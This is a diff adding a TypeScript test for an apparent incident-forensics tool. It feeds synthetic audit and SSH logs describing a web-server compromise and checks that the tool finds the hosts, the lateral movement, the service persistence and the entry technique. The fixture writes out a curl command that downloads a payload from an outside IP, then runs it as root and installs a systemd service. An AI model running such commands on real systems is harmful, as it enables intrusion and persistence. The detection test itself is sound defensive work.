@@ -326,3 +326,69 @@ test('a session by SSH: what was run as another user in it, an account, a job th
   );
   assert.ok(!i.timeline.some((t) => t.text.includes('apt upgrade')));
 });
+
+test('Linux audit: a web server starts shells, what command lines lay runs, a unit stays, and by SSH to a machine of another zone', () => {
+  let serial = 100;
+  const head = (seconds: number): string => `msg=audit(${(START / 1000 + seconds).toFixed(3)}:${++serial}):`;
+  const ids = (ppid: number, pid: number, uid: number): string =>
+    `ppid=${ppid} pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} tty=(none) ses=4294967295`;
+  const exec = (
+    seconds: number,
+    ppid: number,
+    pid: number,
+    uid: number,
+    exe: string,
+    args: readonly string[],
+  ): string => {
+    const m = head(seconds);
+    const words = args.map(
+      (a, i) => `a${i}=${/[\s"]/.test(a) ? Buffer.from(a).toString('hex').toUpperCase() : `"${a}"`}`,
+    );
+    return `type=SYSCALL ${m} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ${ids(ppid, pid, uid)} comm="x" exe="${exe}" key="exec"\ntype=EXECVE ${m} argc=${args.length} ${words.join(' ')}\n`;
+  };
+  const wrote = (seconds: number, ppid: number, pid: number, uid: number, exe: string, path: string): string => {
+    const m = head(seconds);
+    return `type=SYSCALL ${m} arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2=241 a3=1b6 items=1 ${ids(ppid, pid, uid)} comm="x" exe="${exe}" key="w"\ntype=PATH ${m} item=0 name="${path}" inode=1 nametype=CREATE\n`;
+  };
+  const sh = (seconds: number, pid: number, line: string, tool: string): string =>
+    exec(seconds, 700, pid, 998, '/usr/bin/dash', ['/bin/sh', '-c', line]) +
+    exec(seconds + 0.01, pid, pid + 1, 998, tool, line.split(' '));
+  const audit =
+    wrote(0, 1, 700, 998, '/usr/lib/jvm/java-11/bin/java', '/opt/app/webapps/app/help/e.jsp') +
+    sh(60, 1000, 'id', '/usr/bin/id') +
+    sh(90, 1010, 'curl -s http://203.0.113.9/u -o /var/tmp/upd', '/usr/bin/curl') +
+    exec(120, 1, 1020, 0, '/var/tmp/upd', ['/var/tmp/upd']) +
+    exec(150, 1020, 1030, 0, '/usr/bin/tee', ['tee', '/etc/systemd/system/upd.service']) +
+    wrote(150.1, 1020, 1030, 0, '/usr/bin/tee', '/etc/systemd/system/upd.service') +
+    exec(596, 1020, 1040, 0, '/usr/bin/ssh', ['ssh', '-o', 'BatchMode=no', 'dba@10.0.0.6']);
+  const stamp = (seconds: number): string => {
+    const t = new Date(START + seconds * 1000 + 3600e3);
+    return `Mar  5 ${t.toISOString().slice(11, 19)}`;
+  };
+  const secure =
+    `${stamp(-3000)} db01 sshd[400]: Accepted publickey for alice from 10.0.0.9 port 40010 ssh2\n` +
+    `${stamp(600)} db01 sshd[500]: Accepted password for dba from 10.0.0.5 port 40000 ssh2\n`;
+  const hosts = '127.0.0.1 localhost\n10.0.0.5 web01.corp.example web01\n10.0.0.6 db01.corp.example db01\n';
+  const d = ofFiles({
+    'web01/var/log/audit/audit.log': audit,
+    'web01/etc/hosts': hosts,
+    'db01/var/log/secure': secure,
+    'db01/live_response/timedatectl.txt': '                Time zone: Europe/Stockholm (CET, +0100)\n',
+  });
+  assert.equal(d.incidents.length, 1);
+  const i = d.incidents[0]!;
+  assert.deepEqual(
+    i.hosts
+      .filter((h) => h.status === 'controlled')
+      .map((h) => h.name.split('.')[0])
+      .sort(),
+    ['db01', 'web01'],
+  );
+  assert.deepEqual(
+    i.lateral_movement.map((m) => [m.from.split('.')[0], m.to.split('.')[0], m.method, m.time]),
+    [['web01', 'db01', 'ssh', iso(600).replace('.000Z', '.000000Z')]],
+  );
+  assert.ok(i.persistence.some((p) => p.kind === 'service' && p.name === 'upd'));
+  assert.ok(i.accounts.some((a) => a.name.endsWith('dba')) && !i.accounts.some((a) => a.name.endsWith('alice')));
+  assert.equal(i.entry?.technique, 'T1190');
+});
